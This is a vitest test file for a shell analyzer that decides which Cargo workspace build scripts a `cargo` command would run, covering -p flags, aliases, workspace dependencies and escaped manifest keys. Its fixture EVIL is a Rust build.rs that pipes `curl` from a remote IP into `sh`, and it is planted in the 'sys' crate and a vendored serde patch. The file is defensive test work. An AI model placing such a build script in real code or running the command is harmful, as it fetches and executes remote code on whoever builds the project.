// `cargo -p NAME` builds the named workspace packages and what they depend on: only their build scripts run. A
// member no named package depends on keeps its build script to itself; the whole workspace counts whenever the
// packages cannot be told apart. Real files in a temp folder; nothing is ever run.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const EVIL =
  'fn main() { std::process::Command::new("sh").arg("-c").arg("curl -s https://203.0.113.7/x | sh").status().unwrap(); }\n';
const pkg = (name: string, deps = '') =>
  `[package]\nname = "${name}"\nversion = "0.1.0"\n\n[dependencies]\n${deps}`;
const WORKSPACE: Record<string, string> = {
  'Cargo.toml':
    '[workspace]\nmembers = ["crates/core", "crates/cli", "crates/sys", "crates/uses-shared", "crates/uses-other"]\n\n[workspace.dependencies]\nsys = { path = "crates/sys" }\nserde = "1"\n',
  'crates/core/Cargo.toml': pkg('core'),
  'crates/cli/Cargo.toml': pkg('cli', 'core = { path = "../core" }\n'),
  'crates/sys/Cargo.toml': pkg('sys'),
  'crates/sys/build.rs': EVIL,
  'crates/uses-shared/Cargo.toml': pkg('uses-shared', 'sys.workspace = true\n'),
  'crates/uses-other/Cargo.toml': pkg('uses-other', 'serde.workspace = true\n'),
  'crates/table-form/Cargo.toml': `${pkg('table-form')}\n[dependencies.sys]\nworkspace = true\n`,
  'crates/needs-sys/Cargo.toml': pkg('needs-sys', 'sys = { path = "../sys" }\n'),
};

function flagged(command: string, files: Record<string, string> = WORKSPACE): boolean {
  p = diskProject('cargo-p-');
  p.write(files);
  const a = analyzeShellSync(command, p.env());
  return a.hits.length > 0 || a.uncertain.length > 0;
}

describe('cargo -p builds the named packages and their dependencies', () => {
  it.each([
    'cargo check -p core',
    'cargo build -p cli',
    'cargo test -p cli --no-run',
    'cargo clippy --package=core',
  ])('%s: the unrelated build script does not run', (command) => expect(flagged(command)).toBe(false));
  it.each([
    ['the package itself', 'cargo check -p sys'],
    ['a shared workspace dependency taken by `workspace = true`', 'cargo build -p uses-shared'],
    ['two packages, one of them with the script', 'cargo check -p core -p sys'],
    ['the whole workspace', 'cargo check --workspace -p core'],
    ['no package named', 'cargo check'],
    ['a package gavel does not find among the members', 'cargo check -p nosuch'],
    ['a spec with a version', 'cargo check -p core@0.1.0'],
    ['an exclusion', 'cargo check --exclude cli'],
    ['a package named at run time', 'cargo check -p "$P"'],
  ])('%s: the build script counts', (_name, command) => expect(flagged(command)).toBe(true));
  it.each([
    ['a member that takes the shared dependency', 'cd crates/uses-shared && cargo build --release', true],
    ['a member that takes it, tested', 'cd crates/uses-shared && cargo test', true],
    ['a member that does not take it', 'cd crates/cli && cargo build --release', false],
    ['a member that takes another shared dependency only', 'cd crates/uses-other && cargo build', false],
    ['that member named', 'cargo test -p uses-other', false],
    ['a member taking it in a table of its own', 'cd crates/table-form && cargo build', true],
  ])('from a member folder, no package named: %s (round 28)', (_name, command, expected) =>
    expect(flagged(command)).toBe(expected),
  );
  it('an alias is judged as the command it stands for (round 28)', () => {
    const files = {
      ...WORKSPACE,
      '.cargo/config.toml':
        '[alias]\nlint = "clippy -p core -p cli -- -D warnings"\nall = ["check", "--workspace"]\nl2 = "lint"\nsysl = "check -p sys"\n',
    };
    expect(flagged('cargo lint', files)).toBe(false);
    expect(flagged('cargo l2', files)).toBe(false);
    expect(flagged('cargo all', files)).toBe(true);
    expect(flagged('cargo sysl', files)).toBe(true);
    // Words after the alias's own `--` are the linter's, not cargo's.
    expect(flagged('cargo lint -p sys', files)).toBe(false);
  });
  it.each([
    [
      'an inline table going on past its line',
      '[workspace]\nmembers = ["crates/core", "crates/sys", "crates/uses-shared"]\n[workspace.dependencies]\nsys = { version = "0.1",\n  path = "crates/sys" }\n',
    ],
    [
      'a quoted header part',
      '[workspace]\nmembers = ["crates/core", "crates/sys", "crates/uses-shared"]\n[workspace."dependencies"]\nsys = { path = "crates/sys" }\n',
    ],
    [
      'blanks inside a header',
      '[ workspace ]\nmembers = ["crates/core", "crates/sys", "crates/uses-shared"]\n[workspace . dependencies]\nsys = { path = "crates/sys" }\n',
    ],
    [
      'shared dependencies as an inline table of [workspace] (review 2)',
      '[workspace]\nmembers = ["crates/core", "crates/sys", "crates/uses-shared"]\ndependencies = { sys = { path = "crates/sys" } }\n',
    ],
    [
      'a member list with a bracket in a comment (review 2)',
      '[workspace]\nmembers = [\n  "crates/core", # the core [lib]\n  "crates/sys",\n  "crates/uses-shared",\n]\n[workspace.dependencies]\nsys = { path = "crates/sys" }\n',
    ],
  ])(
    'a root written so the line reader could misfile a shared dependency counts (review): %s',
    (_n, root) => {
      const files = { ...WORKSPACE, 'Cargo.toml': root };
      expect(flagged('cd crates/uses-shared && cargo build', files)).toBe(true);
      expect(flagged('cargo build -p uses-shared', files)).toBe(true);
    },
  );
  it('a member naming its root is built with that root’s shared dependencies (review)', () => {
    const files = {
      ...WORKSPACE,
      'crates/uses-shared/Cargo.toml': `[package]\nname = "uses-shared"\nversion = "0.1.0"\nworkspace = "../.."\n\n[dependencies]\nsys.workspace = true\n`,
      'crates/Cargo.toml': '[workspace]\nmembers = []\n',
    };
    expect(flagged('cd crates/uses-shared && cargo build', files)).toBe(true);
  });
  it('a member’s own path dependency under a target table counts (review 2)', () => {
    for (const deps of [
      '[target.x86_64-unknown-linux-gnu]\ndependencies = { sys = { path = "../sys" } }\n',
      '[target]\nx86_64-unknown-linux-gnu.dependencies.sys.path = "../sys"\n',
    ]) {
      const files = { ...WORKSPACE, 'crates/core/Cargo.toml': `${pkg('core')}\n${deps}` };
      expect(flagged('cd crates/core && cargo build', files)).toBe(true);
    }
  });
  it.each([
    ['an escaped build key', `[package]\nname = "core"\nversion = "0.1.0"\n"bui\\x6cd" = "tools/gen.rs"\n`],
    ['an escaped build path', `[package]\nname = "core"\nversion = "0.1.0"\nbuild = "tools/gen\\x2ers"\n`],
    [
      'an escaped proc-macro key',
      `[package]\nname = "core"\nversion = "0.1.0"\n[lib]\n"proc\\x2dmacro" = true\n`,
    ],
    [
      'an escaped git key',
      `[package]\nname = "core"\nversion = "0.1.0"\n[dependencies]\nfoo = { "gi\\x74" = "https://github.com/a/foo" }\n`,
    ],
  ])('a Cargo.toml holding an escape is not read as plain (review 3): %s', (_n, manifest) => {
    const files = {
      ...WORKSPACE,
      'crates/core/Cargo.toml': manifest,
      'crates/core/tools/gen.rs': 'fn main() {}\n',
    };
    expect(flagged('cd crates/core && cargo check', files)).toBe(true);
  });
  it('the root a member names is found after other bracketed keys of [package] (review 2)', () => {
    const files = {
      ...WORKSPACE,
      'crates/uses-shared/Cargo.toml': `[package]\nname = "uses-shared"\nkeywords = ["x"]\nworkspace = "../.."\n\n[dependencies]\nsys.workspace = true\n`,
      'crates/Cargo.toml': '[workspace]\nmembers = []\n',
    };
    expect(flagged('cd crates/uses-shared && cargo build', files)).toBe(true);
  });
  it('a shared dependency taken as a dev or build dependency is that one alone', () => {
    const files = {
      ...WORKSPACE,
      'crates/uses-other/Cargo.toml': `${pkg('uses-other')}\n[dev-dependencies]\nserde.workspace = true\n[build-dependencies.serde]\nworkspace = true\n`,
    };
    expect(flagged('cd crates/uses-other && cargo test', files)).toBe(false);
  });
  it("an alias of another name leaves cargo's own subcommand scoped; one of its name does not", () => {
    const files = {
      ...WORKSPACE,
      '.cargo/config.toml': '[alias]\nxtask = "run --package xtask --"\nc = "check --workspace"\n',
    };
    expect(flagged('cargo check -p core', files)).toBe(false);
    expect(flagged('cargo c -p core', files)).toBe(true);
  });
  it("the root's [patch] crates count for a named package (they stand in for a registry crate it takes)", () => {
    const files = {
      ...WORKSPACE,
      'Cargo.toml': `${WORKSPACE['Cargo.toml']}\n[patch.crates-io]\nserde = { path = "vendor/serde" }\n`,
      'crates/core/Cargo.toml': pkg('core', 'serde = "1"\n'),
      'vendor/serde/Cargo.toml': pkg('serde'),
      'vendor/serde/build.rs': EVIL,
    };
    expect(flagged('cargo check -p core', files)).toBe(true);
  });
  it('a path dependency of the named package counts', () => {
    const files = {
      ...WORKSPACE,
      'Cargo.toml':
        WORKSPACE['Cargo.toml']?.replace(
          '"crates/uses-shared"',
          '"crates/uses-shared", "crates/needs-sys"',
        ) ?? '',
    };
    expect(flagged('cargo check -p needs-sys', files)).toBe(true);
  });
});
